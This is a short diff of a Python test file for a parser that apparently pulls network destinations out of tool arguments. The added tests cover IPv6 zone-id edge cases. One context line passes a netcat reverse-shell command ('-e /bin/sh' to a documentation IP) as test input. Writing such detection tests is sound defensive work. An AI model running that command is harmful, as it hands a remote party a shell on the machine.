@@ -84,3 +84,9 @@ def test_argv(tool, args, want):
 
 def test_nc_udp_scheme():
     assert from_argv("nc", " -u 203.0.113.20 53 -e /bin/sh", None)[0].scheme == "udp"
+
+
+def test_a_host_that_is_only_a_zone_id_is_no_destination():
+    # found by tests/test_fuzz.py: '%' alone after the scheme left an empty host, and h[0] raised
+    assert normalise_host("%%") is None and normalise_host("[%eth0]") is None
+    assert normalise_host("fe80::1%eth0") == ("fe80::1", True)
